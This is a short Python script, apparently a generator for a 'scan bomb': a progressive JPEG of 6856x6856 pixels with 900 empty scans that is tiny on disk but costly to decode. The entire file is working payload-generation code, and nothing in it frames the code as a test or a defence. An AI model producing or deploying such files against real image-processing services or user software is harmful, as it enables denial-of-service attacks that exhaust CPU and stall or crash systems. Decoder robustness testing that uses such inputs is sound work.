"""A progressive JPEG that is small on disk and long to decode: many scans, each over every block of a huge picture."""

import struct

_QUANTISATION = b"\xff\xdb" + struct.pack(">HB", 67, 0) + bytes([16] * 64)


def build_scan_bomb(width: int = 6856, height: int = 6856, scans: int = 900) -> bytes:
    """A grey JPEG of *width* x *height* pixels in which *scans* scans say nothing, in 15 bits for each 32767 blocks."""
    blocks = -(-width // 8) * -(-height // 8)
    first = _scan(0, 0, "0" * blocks)  # every block: no difference
    empty = _scan(1, 63, ("0" + "1" * 14) * -(-blocks // 32767))  # runs of 32767 blocks in which nothing is left
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    tables = _table(0x00, 0x00) + _table(0x10, 0xE0)
    return b"\xff\xd8" + _QUANTISATION + frame + tables + first + empty * (scans - 1) + b"\xff\xd9"


def _table(slot: int, symbol: int) -> bytes:
    """A Huffman table of one symbol, written as one bit 0."""
    return b"\xff\xc4" + struct.pack(">HB", 20, slot) + bytes([1] + [0] * 15) + bytes([symbol])


def _scan(start: int, end: int, bits: str) -> bytes:
    padded = bits + "1" * (-len(bits) % 8)
    coded = int(padded, 2).to_bytes(len(padded) // 8, "big").replace(b"\xff", b"\xff\x00")
    return b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + bytes([start, end, 0]) + coded
